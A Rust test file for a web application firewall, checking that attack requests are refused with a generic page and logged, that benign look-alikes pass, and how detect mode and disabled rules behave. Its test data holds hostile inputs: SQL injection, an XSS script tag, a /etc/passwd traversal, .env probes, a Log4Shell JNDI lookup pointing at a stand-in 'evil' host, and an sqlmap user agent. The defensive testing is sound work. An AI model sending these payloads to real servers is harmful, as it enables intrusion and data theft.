//! The shield in front of the real server.

use reqwest::StatusCode;
use testkit::TestServer;

use crate::eventually;

#[tokio::test]
async fn attacks_are_refused_before_routing_and_recorded() {
    // This test is about single blocks; bans for repeat attackers are tested in bans.rs.
    let dir = std::sync::Arc::new(tempfile::tempdir().unwrap());
    let mut config = testkit::test_config(dir.path());
    config.shield.ban_attack_threshold = 1000;
    let s = TestServer::start_in(dir, config).await;
    for path in [
        "/?q=1%27%20or%20%271%27=%271",
        "/about?x=%3Cscript%3Ealert(1)%3C/script%3E",
        "/.env",
        "/wp-login.php",
        "/?f=../../etc/passwd",
    ] {
        let res = s.get(path).await;
        assert_eq!(res.status(), StatusCode::FORBIDDEN, "{path}");
        let body = res.text().await.unwrap();
        assert!(
            body.contains("Request blocked") && !body.contains("1001"),
            "generic page, no rule ids: {body}"
        );
    }
    let res = s
        .client
        .post(format!("{}/contact", s.http_url))
        .header("content-type", "application/x-www-form-urlencoded")
        .body("name=x&msg=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D")
        .send()
        .await
        .unwrap();
    assert_eq!(
        res.status(),
        StatusCode::FORBIDDEN,
        "form bodies are inspected"
    );
    let ua = s
        .client
        .get(format!("{}/", s.http_url))
        .header("user-agent", "sqlmap/1.8")
        .send()
        .await
        .unwrap();
    assert_eq!(ua.status(), StatusCode::FORBIDDEN);

    let store = s.open_store().await;
    assert!(
        eventually(|| async {
            store
                .recorder
                .count_security_events("waf_block", 0)
                .await
                .unwrap()
                >= 7
        })
        .await,
        "every block is recorded"
    );
}

#[tokio::test]
async fn honest_requests_pass() {
    let s = TestServer::start().await;
    for path in [
        "/?q=O%27Brien",
        "/news?search=50%25+off+--+today",
        "/about?ref=https%3A%2F%2Fwww.example.com%2Fpage%3Fx%3D1",
        "/?q=select+a+size",
        "/?q=I+love+%3C3+cats",
        "/?name=M%C3%BCller-L%C3%BCdenscheidt",
    ] {
        let res = s.get(path).await;
        assert!(
            res.status() == StatusCode::OK || res.status() == StatusCode::NOT_FOUND,
            "{path}: {}",
            res.status()
        );
    }
    let tls = s.get_tls("/about").await;
    assert_eq!(
        tls.status(),
        StatusCode::OK,
        "HTTP/2 requests carry no Host header and pass"
    );
}

#[tokio::test]
async fn detect_mode_serves_but_records() {
    let dir = std::sync::Arc::new(tempfile::tempdir().unwrap());
    let mut config = testkit::test_config(dir.path());
    config.shield.mode = server::config::ShieldMode::Detect;
    let s = TestServer::start_in(dir, config).await;
    assert_eq!(
        s.get("/about?q=%3Cscript%3Ealert(1)%3C/script%3E")
            .await
            .status(),
        StatusCode::OK
    );
    let store = s.open_store().await;
    assert!(
        eventually(|| async {
            store
                .recorder
                .count_security_events("waf_detect", 0)
                .await
                .unwrap()
                == 1
        })
        .await
    );
    assert_eq!(
        store
            .recorder
            .count_security_events("waf_block", 0)
            .await
            .unwrap(),
        0
    );
}

#[tokio::test]
async fn a_disabled_rule_lets_its_matches_through() {
    let dir = std::sync::Arc::new(tempfile::tempdir().unwrap());
    let mut config = testkit::test_config(dir.path());
    config.shield.disabled_rules = vec![8103];
    let s = TestServer::start_in(dir, config).await;
    assert_eq!(
        s.get("/wp-admin/").await.status(),
        StatusCode::NOT_FOUND,
        "probe rule off: the site's 404"
    );
    assert_eq!(
        s.get("/.env").await.status(),
        StatusCode::FORBIDDEN,
        "other rules still on"
    );
}
